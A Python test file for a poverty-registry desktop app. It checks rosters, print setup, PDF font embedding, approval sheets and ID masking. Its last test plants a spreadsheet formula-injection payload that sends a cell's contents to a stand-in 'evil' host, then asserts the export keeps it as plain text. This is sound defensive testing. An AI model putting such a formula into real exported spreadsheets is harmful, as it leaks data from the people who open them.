"""The two rosters (.xlsx with print setup, PDF with embedded fonts) and the 审批表 PDF."""

from __future__ import annotations

import datetime
import io

import pdfplumber
from openpyxl import load_workbook
from pypdf import PdfReader

from desktop.models.comparison import DECISION_AGREE
from desktop.printing.comparison_approval import render_approval_pdf
from desktop.printing.comparison_roster import write_roster_file
from desktop.services.actor import CurrentUser
from desktop.services.comparison.cases import Decision, approval_sheet
from desktop.services.comparison.rosters import roster_table
from desktop.services.registry.idcard import mask_id
from desktop.services.unit_of_work import Database
from tests.services.comparison.fixtures import HEAD_ID

DAY = datetime.date.today()
CLERK = CurrentUser("李录入", "clerk")
REVIEWER = CurrentUser("王审核", "reviewer")
ADMIN = CurrentUser("赵主任", "admin")


def _approve(cases, case_id, *, paper_signer=""):
    for user in (CLERK, REVIEWER, ADMIN):
        version = cases.case(case_id).version
        cases.decide(
            user, case_id, version,
            Decision(
                DECISION_AGREE, DAY, reason="同意", finding="属实",
                on_paper=bool(paper_signer) and user is ADMIN, signed_by=paper_signer,
            ),
        )  # fmt: skip


def _world_with_decisions(world):
    cases = world["cases"]
    removal = cases.open_removal(CLERK, [world["hits"][0].id], "户主名下有小汽车（粤N12345）")
    _approve(cases, removal)
    addition = cases.open_addition(CLERK, world["edge"], "一般贫困户", "人均可支配收入3200元")
    _approve(cases, addition, paper_signer="刘县长")
    return removal, addition


def _fonts_embedded(data: bytes) -> bool:
    reader = PdfReader(io.BytesIO(data))
    for page in reader.pages:
        for font in page["/Resources"]["/Font"].values():
            font = font.get_object()
            descendants = font.get("/DescendantFonts")
            target = descendants[0].get_object() if descendants else font
            descriptor = target["/FontDescriptor"].get_object()
            if not any(k in descriptor for k in ("/FontFile", "/FontFile2", "/FontFile3")):
                return False
    return True


def test_the_rosters_list_each_approved_person_with_ids_masked(engine, world):
    _world_with_decisions(world)
    removals = roster_table(Database(engine), "removals", DAY, DAY)
    assert removals.title == "建档立卡贫困户清退人员花名册"
    assert removals.headers[1:8] == [
        "县（市、区）", "镇（街道）", "村（居）", "户主", "姓名", "与户主关系", "证件号码",
    ]  # fmt: skip
    assert [r[5] for r in removals.rows] == ["林大", "陈花", "林婆婆"]
    first = removals.rows[0]
    assert first[1:5] == ["海丰县", "梅陇镇", "新村", "林大"]
    assert first[7] == mask_id(HEAD_ID) and first[9] == f"{DAY:%Y-%m-%d}" and first[10] == "赵主任"
    assert removals.total == "合计：1 户 3 人"
    additions = roster_table(Database(engine), "additions", DAY, DAY)
    assert [(r[5], r[10]) for r in additions.rows] == [("吴三", "刘县长")]
    assert additions.headers[8] == "认定依据"
    assert roster_table(Database(engine), "removals", DAY, DAY, township="别的镇").rows == []
    earlier = DAY - datetime.timedelta(days=30)
    assert roster_table(Database(engine), "removals", earlier, earlier).rows == []


def test_roster_xlsx_is_set_up_to_print(engine, world, tmp_path):
    _world_with_decisions(world)
    path = tmp_path / "清退.xlsx"
    table = roster_table(Database(engine), "removals", DAY, DAY)
    write_roster_file(table, path)
    assert len(table.rows) == 3
    ws = load_workbook(path).active
    assert ws["A1"].value == "建档立卡贫困户清退人员花名册"
    assert ws.page_setup.orientation == "landscape" and int(ws.page_setup.paperSize) == 9
    assert ws.print_title_rows == "$3:$3"
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.cell(4, 8).value == mask_id(HEAD_ID)


def test_roster_pdf_embeds_its_fonts_and_shows_the_people(engine, world, tmp_path):
    _world_with_decisions(world)
    path = tmp_path / "新增.pdf"
    write_roster_file(roster_table(Database(engine), "additions", DAY, DAY), path)
    data = path.read_bytes()
    assert _fonts_embedded(data)
    with pdfplumber.open(path) as pdf:
        page = pdf.pages[0]
        assert (round(page.width), round(page.height)) == (842, 595)  # A4 landscape
        text = page.extract_text()
    assert "新增贫困人口花名册" in text and "吴三" in text and "刘县长" in text
    assert "填报人" in text and "合计：1 户 1 人" in text


def test_the_approval_sheet_leaves_the_county_box_blank_until_it_decides(engine, world):
    cases = world["cases"]
    case_id = cases.open_removal(CLERK, [world["hits"][0].id], "户主名下有小汽车")
    for user in (CLERK, REVIEWER):
        version = cases.case(case_id).version
        cases.decide(user, case_id, version, Decision(DECISION_AGREE, DAY, "同意", "车辆属实"))
    sheet = approval_sheet(Database(engine), case_id)
    assert [b.label for b in sheet.blocks] == [
        "工作队核实情况", "镇（街道）审核意见", "县（市、区）扶贫办核定意见",
    ]  # fmt: skip
    assert sheet.blocks[0].signer == "李录入" and "车辆属实" in sheet.blocks[0].text
    assert sheet.blocks[2].text == "" and sheet.blocks[2].signer == ""
    assert any("公安（车管所）" in h and "粤N12345" in h for h in sheet.hits)
    data = render_approval_pdf(sheet)
    assert _fonts_embedded(data)
    with pdfplumber.open(io.BytesIO(data)) as pdf:
        page = pdf.pages[0]
        assert (round(page.width), round(page.height)) == (595, 842)
        text = page.extract_text()
    assert "建档立卡贫困户清退审批表" in text and "贫办核定意见" in text
    assert mask_id(HEAD_ID) in text and HEAD_ID not in text


def test_roster_xlsx_writes_typed_text_as_text_never_a_formula(engine, world, tmp_path):
    """A 认定依据 or a signer typed "=HYPERLINK(…)" stays text in the .xlsx."""
    import zipfile

    cases = world["cases"]
    payload = '=HYPERLINK("http://evil/?"&H4,"点击")'
    addition = cases.open_addition(CLERK, world["edge"], "一般贫困户", payload)
    _approve(cases, addition, paper_signer="-2+3")
    path = tmp_path / "新增.xlsx"
    table = roster_table(Database(engine), "additions", DAY, DAY)
    assert [(r[8], r[10]) for r in table.rows] == [(payload, "-2+3")]
    write_roster_file(table, path)
    with zipfile.ZipFile(path) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")
    values = [c for row in load_workbook(path).active.values for c in row]
    assert payload in values and "-2+3" in values
